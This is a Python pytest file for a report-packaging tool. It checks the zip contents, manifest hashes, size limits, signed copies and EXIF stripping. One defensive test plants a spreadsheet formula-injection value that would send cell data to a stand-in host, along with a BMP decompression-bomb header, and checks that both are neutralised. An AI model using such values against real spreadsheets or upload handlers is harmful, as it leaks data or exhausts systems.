"""``reportkit package``: the zip for the ministry, made by the real command from a report built
by the real command, with photos, videos and a link as evidence."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import random
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from PIL import Image

from reportkit.package import MAIL_EDGE, photo_for_mail

from .conftest import RESULTS, ROOT, build_campaign
from .pki import PASSPHRASE, make_pki


def reportkit(*args) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "reportkit.cli", *map(str, args)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=300,
        env={**os.environ, "RK_PASS": PASSPHRASE},
    )


def _noise(size: tuple[int, int], seed: int) -> Image.Image:
    """A photo that compresses badly, the same every time."""
    return Image.frombytes("RGB", size, random.Random(seed).randbytes(size[0] * size[1] * 3))


def _noise_video(path: Path, *, frames: int, bit_rate: int) -> Path:
    """A real MP4 (evidence is checked when a campaign loads) of noise: big at a high bit rate."""
    import av
    import numpy as np

    rng = np.random.default_rng(frames)
    with av.open(str(path), "w") as out:
        stream = out.add_stream("mpeg4", rate=10)
        stream.width, stream.height, stream.pix_fmt, stream.bit_rate = 640, 480, "yuv420p", bit_rate
        for _ in range(frames):
            picture = rng.integers(0, 256, (480, 640, 3), dtype=np.uint8)
            for packet in stream.encode(av.VideoFrame.from_ndarray(picture, format="rgb24")):
                out.mux(packet)
        for packet in stream.encode():
            out.mux(packet)
    return path


@pytest.fixture(scope="module")
def campaign(tmp_path_factory) -> Path:
    """The results campaign with a big photo, a small and a big video, and a link as evidence."""
    folder = tmp_path_factory.mktemp("package") / "results"
    shutil.copytree(RESULTS, folder)
    _noise((3000, 2000), 1).save(folder / "evidence" / "photo-big.jpg", quality=95)
    _noise_video(folder / "evidence" / "clip-small.mp4", frames=5, bit_rate=300_000)
    _noise_video(folder / "evidence" / "clip-big.mp4", frames=40, bit_rate=8_000_000)
    assert (folder / "evidence" / "clip-big.mp4").stat().st_size > 1_000_000
    activities = folder / "activities.csv"
    text = activities.read_text(encoding="utf-8")
    text = text.replace(
        "H2,so,2022-05-17,web_article,3,1.200,2.500,2,,",
        "H2,so,2022-05-17,web_article,3,1.200,2.500,2,evidence/photo-big.jpg,",
    )
    text = text.replace(
        "H3,a-office,17/5/2022,loudspeaker,12,3.400,,,,",
        "H3,a-office,17/5/2022,loudspeaker,12,3.400,,,evidence/clip-small.mp4,",
    )
    text = text.replace(
        "H4,a-office,2022-06-02,meeting,1,80,,,,",
        "H4,a-office,2022-06-02,meeting,1,80,,,evidence/clip-big.mp4,",
    )
    activities.write_text(text, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def built(campaign: Path) -> Path:
    """The folder ``reportkit build --out`` wrote the report's PDF and Word file into."""
    out = campaign.parent / "out"
    build_campaign(campaign, out, "--doc", "report", "--to", "pdf,docx")
    return out


def _package(campaign: Path, built: Path, out: Path, *options) -> subprocess.CompletedProcess:
    return reportkit("package", campaign, "--built", built, "--out", out, *options)


def _entries(zip_path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(zip_path) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def _index(entries: dict[str, bytes]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(entries["index.csv"].decode("utf-8-sig"))))


@pytest.mark.kernel
@pytest.mark.pdf
def test_the_package_holds_the_report_photos_videos_index_and_manifest(campaign, built, tmp_path):
    out = tmp_path / "p.zip"
    result = _package(campaign, built, out)
    assert result.returncode == 0, result.stderr
    entries = _entries(out)
    assert list(entries) == [
        "index.csv",
        "manifest.json",
        "report.pdf",
        "report.docx",
        "photos/H1-banner.jpg",
        "photos/H2-photo-big.jpg",
        "videos/H3-clip-small.mp4",
        "videos/H4-clip-big.mp4",
    ]
    assert f"{out}: 8 files" in result.stdout
    report_dir = next(built.iterdir())
    assert entries["report.pdf"] == (report_dir / "report.pdf").read_bytes()
    assert entries["videos/H4-clip-big.mp4"] == (campaign / "evidence" / "clip-big.mp4").read_bytes()
    big = Image.open(io.BytesIO(entries["photos/H2-photo-big.jpg"]))
    assert big.format == "JPEG" and big.size == (MAIL_EDGE, round(MAIL_EDGE * 2000 / 3000))
    rows = {row["file"] or row["source"]: row for row in _index(entries)}
    assert rows["photos/H2-photo-big.jpg"]["activity_id"] == "H2"
    assert rows["videos/H3-clip-small.mp4"]["activity_id"] == "H3"
    assert rows["https://example.invalid/video"]["kind"] == "link"
    assert rows["https://example.invalid/video"]["activity_id"] == "H5"
    assert rows["report.docx"]["kind"] == "document"
    manifest = json.loads(entries["manifest.json"])
    listed = {e["path"]: e for e in manifest["files"]}
    assert set(listed) == set(entries) - {"manifest.json"}
    for name, data in entries.items():
        if name != "manifest.json":
            assert listed[name] == {
                "path": name,
                "size": len(data),
                "sha256": hashlib.sha256(data).hexdigest(),
            }
    assert manifest["not_included"] == []


@pytest.mark.kernel
@pytest.mark.pdf
def test_the_same_inputs_give_the_same_zip_byte_for_byte(campaign, built, tmp_path):
    first, second = tmp_path / "1.zip", tmp_path / "2.zip"
    assert _package(campaign, built, first).returncode == 0
    for path in [*campaign.rglob("*"), *built.rglob("*")]:
        os.utime(path, (1_700_000_000, 1_700_000_000))  # the files' times must not matter
    assert _package(campaign, built, second).returncode == 0
    assert first.read_bytes() == second.read_bytes()
    with zipfile.ZipFile(second) as archive:
        assert {(i.date_time, i.external_attr >> 16) for i in archive.infolist()} == {
            ((1980, 1, 1, 0, 0, 0), 0o100644)
        }


@pytest.mark.kernel
@pytest.mark.pdf
def test_a_video_past_the_limit_is_listed_with_its_size_and_hash(campaign, built, tmp_path):
    full = tmp_path / "full.zip"
    assert _package(campaign, built, full).returncode == 0
    big = (campaign / "evidence" / "clip-big.mp4").stat().st_size
    limit_mb = (full.stat().st_size - big + 50_000) / 1_000_000  # the big video cannot fit
    out = tmp_path / "limited.zip"
    result = _package(campaign, built, out, "--max-mb", f"{limit_mb:.3f}")
    assert result.returncode == 0, result.stderr
    assert out.stat().st_size <= limit_mb * 1_000_000
    entries = _entries(out)
    assert "videos/H3-clip-small.mp4" in entries and "videos/H4-clip-big.mp4" not in entries
    listed = f"evidence/clip-big.mp4, {big / 1e6:.1f} MB"
    assert f"not included (too big for the limit, listed in index.csv): {listed}" in result.stdout
    big_hash = hashlib.sha256((campaign / "evidence" / "clip-big.mp4").read_bytes()).hexdigest()
    [row] = [r for r in _index(entries) if r["kind"] == "listed"]
    assert (row["source"], row["activity_id"], row["size_bytes"], row["sha256"]) == (
        "evidence/clip-big.mp4", "H4", str(big), big_hash,
    )  # fmt: skip
    assert json.loads(entries["manifest.json"])["not_included"] == [
        {"file": "evidence/clip-big.mp4", "activity_id": "H4", "size": big, "sha256": big_hash}
    ]


@pytest.mark.kernel
@pytest.mark.pdf
def test_a_limit_smaller_than_the_documents_is_refused_and_the_old_zip_kept(campaign, built, tmp_path):
    out = tmp_path / "kept.zip"
    out.write_bytes(b"the last good package")
    result = _package(campaign, built, out, "--max-mb", "0.05")
    assert result.returncode == 2
    assert "the report's documents alone make" in result.stderr and "limit of 0.05 MB" in result.stderr
    assert "Traceback" not in result.stderr
    assert out.read_bytes() == b"the last good package"
    assert list(tmp_path.iterdir()) == [out]


@pytest.mark.kernel
@pytest.mark.pdf
def test_the_signed_copy_goes_in_when_there_is_one(campaign, built, tmp_path):
    pki = make_pki(tmp_path / "pki")
    report = next(built.iterdir()) / "report.pdf"
    signed = reportkit("sign", report, "--role", "signer", "--p12", pki.signer_p12, "--pass-env", "RK_PASS")
    assert signed.returncode == 0, signed.stderr
    out = tmp_path / "signed.zip"
    assert _package(campaign, built, out).returncode == 0
    entries = _entries(out)
    assert "report.signed.pdf" in entries and "report.pdf" not in entries
    assert entries["report.signed.pdf"] == report.with_name("report.signed.pdf").read_bytes()
    report.with_name("report.signed.pdf").unlink()


def test_a_package_needs_the_built_report(campaign, tmp_path):
    result = reportkit("package", campaign, "--built", tmp_path / "nothing")
    assert result.returncode == 2
    assert "report.pdf, report.docx not found; build the report first" in result.stderr


def test_photos_for_mail_are_upright_flat_small_and_without_metadata(tmp_path):
    photo = _noise((3000, 2000), 4)
    exif = photo.getexif()
    exif[0x0112] = 6  # the camera was turned: shown rotated 90°
    exif[0x010F] = "Camera maker"
    photo.save(tmp_path / "turned.jpg", exif=exif)
    scaled = Image.open(io.BytesIO(photo_for_mail(tmp_path / "turned.jpg")))
    assert scaled.size == (round(MAIL_EDGE * 2000 / 3000), MAIL_EDGE)  # 2000 × 3000 upright, scaled
    assert not scaled.getexif()
    transparent = Image.new("RGBA", (40, 20), (0, 0, 0, 0))
    transparent.save(tmp_path / "clear.png")
    flat = Image.open(io.BytesIO(photo_for_mail(tmp_path / "clear.png")))
    assert flat.mode == "RGB" and flat.getpixel((10, 10)) == (255, 255, 255)


def _bmp_header(width: int, height: int) -> bytes:
    """A BMP that says it is ``width`` × ``height`` (a decompression bomb: gigabytes decoded)."""
    import struct

    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 14 + len(info) + 64, 0, 0, 14 + len(info)) + info + bytes(64)


@pytest.mark.kernel
@pytest.mark.pdf
def test_the_index_shows_a_unit_named_like_a_formula_as_text_and_a_bmp_is_never_opened(tmp_path):
    hostile = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
    folder = tmp_path / "results"
    shutil.copytree(RESULTS, folder)
    units = folder / "units.csv"
    with units.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    rows[1][1] = hostile  # unit "so", typed by hand into units.csv
    with units.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    bomb = _bmp_header(60_000, 60_000)
    (folder / "evidence" / "scan.bmp").write_bytes(bomb)
    activities = folder / "activities.csv"
    text = activities.read_text(encoding="utf-8")
    activities.write_text(
        text.replace(
            "H2,so,2022-05-17,web_article,3,1.200,2.500,2,,",
            "H2,so,2022-05-17,web_article,3,1.200,2.500,2,evidence/scan.bmp,",
        ),
        encoding="utf-8",
    )
    built = tmp_path / "out"
    build_campaign(folder, built, "--doc", "report", "--to", "pdf,docx")
    out = tmp_path / "p.zip"
    result = _package(folder, built, out)
    assert result.returncode == 0, result.stderr
    entries = _entries(out)
    assert entries["other/H2-scan.bmp"] == bomb  # as it is: media.py does not count it a photo
    index = entries["index.csv"].decode("utf-8-sig")
    assert "'=HYPERLINK(" in index and ",=HYPERLINK(" not in index
    [row] = [row for row in _index(entries) if row["activity_id"] == "H2"]
    assert row["unit"] == "'" + hostile and row["size_bytes"] == str(len(bomb))
